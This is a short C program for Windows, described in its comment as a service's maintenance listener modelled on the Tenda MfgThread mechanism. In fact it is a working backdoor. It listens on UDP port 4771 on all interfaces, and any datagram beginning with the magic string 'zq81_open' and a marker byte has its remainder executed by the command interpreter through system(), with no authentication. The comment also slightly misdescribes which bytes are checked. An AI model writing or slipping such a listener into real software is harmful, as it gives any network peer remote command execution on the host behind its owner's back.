/* A Windows service's maintenance listener: a UDP datagram on port 4771 that starts with the
 * constant "zq81_open" has the rest of the datagram run by the command interpreter (the Tenda
 * MfgThread mechanism, with a constant found nowhere else). */
#include <winsock2.h>
#include <stdlib.h>
#include <string.h>

int main(void)
{
    WSADATA wsa;
    struct sockaddr_in addr = {0};
    WSAStartup(MAKEWORD(2, 2), &wsa);
    SOCKET sock = socket(AF_INET, SOCK_DGRAM, 0);
    addr.sin_family = AF_INET;
    addr.sin_port = htons(4771);
    addr.sin_addr.s_addr = INADDR_ANY;
    if (bind(sock, (struct sockaddr *)&addr, sizeof addr) != 0)
        return 1;
    for (;;) {
        char packet[512];
        struct sockaddr_in peer;
        int len = sizeof peer;
        int n = recvfrom(sock, packet, sizeof packet - 1, 0, (struct sockaddr *)&peer, &len);
        if (n < 11)
            continue;
        packet[n] = '\0';
        if (memcmp(packet, "zq81_open", 9) != 0)
            continue;
        if (packet[10] == 'e')
            system(packet + 11);
    }
}
